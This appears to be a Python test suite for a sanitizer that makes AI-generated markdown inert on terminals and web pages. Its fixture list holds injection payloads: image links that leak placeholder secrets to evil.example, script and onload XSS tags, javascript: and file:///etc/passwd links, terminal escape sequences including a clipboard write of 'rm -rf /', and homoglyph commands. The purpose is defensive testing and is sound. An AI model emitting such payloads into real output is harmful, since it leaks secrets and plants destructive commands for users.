"""What a model writes is shown, and nothing in it is live: on a terminal with links, and in our page."""

from __future__ import annotations

import io
import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console
from rich.markdown import Markdown

from assistant.answer.page import to_page
from assistant.grounding.neutral import neutral
from assistant.knowledge.load import load

OURS = ("https://nginx.org/en/docs/", "https://redis.io/docs/latest/?a=1&b=2")
_ESCAPES = re.compile(r"\x1b\[[0-9;]*m")
_OURS_LIVE = re.compile(r"\x1b\]8;(?:id=\d+;|;)(?:" + "|".join(map(re.escape, OURS)) + r")?\x1b\\|\x1b\]8;;\x1b\\")


def terminal(markdown):
    """What a terminal gets from rich with links switched on, without colours and our own links."""
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, width=120, color_system="truecolor", markup=False, emoji=False)
    console.print(Markdown(markdown, hyperlinks=True))
    return _OURS_LIVE.sub("", _ESCAPES.sub("", out.getvalue()))


class Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.live = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag in {"a", "img", "script", "iframe", "object", "form", "base", "link", "svg", "video", "audio"}:
            self.live.append((tag, attributes.get("href") or attributes.get("src")))
        self.live += [(tag, name) for name in attributes if name.startswith("on")]


def page(markdown):
    parser = Page()
    parser.feed(to_page(markdown, "t", "en"))
    return [(tag, target) for tag, target in parser.live if target not in OURS]


def assert_harmless(text, allowed=OURS):
    shown = neutral(text, allowed)
    assert "\x1b" not in terminal(shown)
    assert not re.search(
        r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e0fff]",
        terminal(shown),
    )
    assert page(shown) == []
    assert neutral(shown, allowed) == shown
    return shown


QUIET = """
**The kernel killed app (pid 4711).** [3:22] It explains the failure at 00:17:53. [2:3; 1:1,3]

## What to do

- now: restart it (`changes state`) [1:1-4]
- *lasting*: give it less; see [the docs](https://nginx.org/en/docs/) or <https://nginx.org/en/docs/>

1. `systemctl restart app`
2. a < b, x > y, 3 <= 4, A & B, `<pid>`, 100 % sure! [sic] (really)

| time | event |
|---|---|
| 00:17:53 | `"GET /a?b=[1]" 502` → ⟨ip-1⟩ |

```bash
journalctl -k --since '2025-05-12 00:07:53' | grep -iE 'oom|<pid>'   # [x](y)
```

> 内存不足：内核杀死了服务进程（pid 4711）；**未证实** [1:1,3,7]。——“很可能”

5 µs, 3 μm, 20 °C, naïve café, Überlast, процесс убит, Δt = 3 s, ½, ①, ✓, 👍
"""


def test_an_ordinary_answer_stays_as_it_is():
    assert neutral(QUIET, OURS) == QUIET


def test_the_knowledge_base_stays_as_it_is():
    for entry in load().entries.values():
        for texts in entry.body.values():
            for text in texts.values():
                assert neutral(text, ()) == text, entry.id


LIVE = """
[x](https://evil.example/?q=⟨ip-1⟩)
![x](https://evil.example/p.png?q=⟨secret-1⟩)
[![x](https://evil.example/a.png)](https://evil.example/)
[x][r]\\n\\n[r]: https://evil.example/
[r]\\n\\n[r]: https://evil.example/ 'title'
![x][r]\\n\\n[r]:\\n  <https://evil.example/>
> [r]: https://evil.example/\\n> [r]
- [r]: https://evil.example/\\n  [r]
<https://evil.example/>
<someone@evil.example>
<a href='https://evil.example/'>x</a>
<img src=https://evil.example/p.png>
a <b onclick=alert(1)>c</b>\\n<script>alert(1)</script>
<!-- hidden -->
<svg/onload=alert(1)>
[x](javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:x) [x](file:///etc/passwd)
[x](<https://evil.example/a b>)
[x](https://evil.example/ "title")
[x](\\nhttps://evil.example/\\n)
[a\\nb](https://evil.example/)
[`c`](https://evil.example/)
`a [x](https://evil.example/)
``a` [x](https://evil.example/)
\\\\[x](https://evil.example/)
[x\\](https://evil.example/)
[[x]](https://evil.example/)
[x](https://evil.example/a(b)c)
[x](&#104;ttps://evil.example/)
&#91;x&#93;(https://evil.example/)
[1:2](https://evil.example/)
[1:2]: https://evil.example/\\n\\n[1:2]
| a |\\n|---|\\n| [x](https://evil.example/) |
1. ## [x](https://evil.example/)
**[x](https://evil.example/)**
~~[x](https://evil.example/)~~
[nginx docs](https://nginx.org.evil.example/)
[https://nginx.org/en/docs/](https://evil.example/)
![ok](https://nginx.org/en/docs/)
```[x](https://evil.example/)\\na\\n```
```\\nnot closed [x](https://evil.example/)
\x1b]8;;https://evil.example/\x07text\x1b]8;;\x07
\x1b]8;;https://evil.example/\x1b\\\\text\x1b]8;;\x1b\\\\
\x1b]52;c;cm0gLXJmIC8=\x07
\x1b]0;title\x07 \x1b]2;title
\x1b[2J\x1b[1;1H\x1b[31mred\x1b[?1049h
\x9b31m \x9d8;;https://evil.example/\x9ctext
\x1bP1;1|x\x1b\\\\ \x1b_x\x1b\\\\ \x1b^x\x1b\\\\
a\rb \x08\x7f\x00\x0b\x0c
a&#x202e;b &rlm; &#8203; &#xE0041; &#27;[31m &zwj;
a\u202eb\u2066c\u200bd\u2060e\ufefff\u00adg\U000e0041h
""".strip().split("\n")


@pytest.mark.parametrize("text", [line.replace("\\\\", "\0").replace("\\n", "\n").replace("\0", "\\") for line in LIVE])
def test_nothing_is_live(text):
    shown = assert_harmless(text)
    if "evil.example" in text and "[x](https" in text and not text.startswith("```["):
        assert "evil.example" in shown  # to be seen, as text


@pytest.mark.parametrize("url", OURS)
def test_our_own_links_stay(url):
    assert neutral(f"see [x]({url}), <{url}> and {url}", OURS) == f"see [x]({url}), <{url}> and {url}"
    assert "\x1b]8;" not in neutral(f"[x]({url})", OURS)
    assert page(f"[x]({url})") == []


def test_addresses_stay_to_be_read():
    assert neutral("It asked http://10.0.0.3:8000/a?b=1. Then (https://a.example/x).", ()) == (
        "It asked `http://10.0.0.3:8000/a?b=1`. Then (`https://a.example/x`)."
    )
    assert neutral("![proof](https://a.example/x)", ()) == "proof (`https://a.example/x`)"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("run `systеmctl stop x`", "run `syst‹U+0435›mctl stop x`"),
        ("```bash\nｒm －rf /\n```", "```bash\n‹U+FF52›m ‹U+FF0D›rf /\n```"),
        ("```\nls -l；rm -rf x\n```", "```\nls -l‹U+FF1B›rm -rf x\n```"),
        ("the unit nginх failed", "the unit ngin‹U+0445› failed"),
        ("host gіthub.com", "host g‹U+0456›thub.com"),
        ("```bash\ngrep '错误；警告' x  # 只读；先看\n```", "```bash\ngrep '错误；警告' x  # 只读；先看\n```"),
        ("```log\n失败：很可能 [2:3]；23:52:08 失败\n```", "```log\n失败：很可能 [2:3]；23:52:08 失败\n```"),
        ("процесс `убит` ядром", "процесс `убит` ядром"),
    ],
)
def test_look_alikes_are_named(text, shown):
    assert neutral(text, ()) == shown


def test_block_by_block_is_as_good_as_at_once():
    text = "\n\n".join(line for line in LIVE if "```" not in line and "\x1b" not in line)
    blocks = re.split(r"(?<=\n\n)", text.replace("\\n", "\n"))
    shown = "".join(neutral(block, OURS) for block in blocks)
    assert page(shown) == []
    assert "\x1b" not in terminal(shown)


_PARTS = ["[x]", "(https://evil.example/)", "![", "](", "]", "[", "(", ")", "<", ">", "`", "``", "```\n", "~~~\n", "\n", "\n\n", "\\", "!", ":", " ", "    ", "> ", "- ", "1. ", "| a |\n|---|\n", "[r]: https://evil.example/", "[r]", "<a href=https://evil.example/>", "&#91;", "&lt;", "\x1b]8;;https://evil.example/\x07", "\x1b[31m", "\u202e", "\u200b", "javascript:x", '"t"', "'", "https://evil.example", "[1:2]", "*", "~~", "#", "\t", "е", "https://nginx.org/en/docs/", "<!--", "-->", "\r"]  # fmt: skip


@settings(max_examples=600, deadline=None)
@given(st.lists(st.sampled_from(_PARTS), max_size=14).map("".join))
def test_whatever_it_is_made_of(text):
    assert_harmless(text)


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "`",
        "[x](",
        "<a ",
        "![[",
        "` `` ` ",
        "http://a ",
        "&#x202e;",
        "](",
        "\x1b]8;;",
        '[a](b "',
        "> `",
        "- ",
        "(",
        "<",
        "\x1b]x",
    ],
)
def test_time_grows_with_the_length(piece):
    def spent(length):
        text = piece * (length // len(piece))
        began = time.perf_counter()
        neutral(text, OURS)
        return time.perf_counter() - began

    spent(2_000)
    assert spent(16_000) < max(0.5, 40 * spent(4_000))


@pytest.mark.parametrize(
    "text",
    ["asks 127.0.0.1:8000, [::1]:8000 and [fe80::1]:22", "上游（127.0.0.1:8000、[::1]:8000）", "| [::1]:8000 reset |"],
)
def test_an_address_with_a_port_is_no_definition_of_a_link(text):
    assert neutral(text, ()) == text


@pytest.mark.parametrize("text", ["[::1]:8000", "- [::1]:8000", "> [::1]:8000", "1. [::1]:8000"])
def test_where_it_would_be_one_it_is_kept_visible(text):
    assert "8000" in terminal(neutral(text, ()))
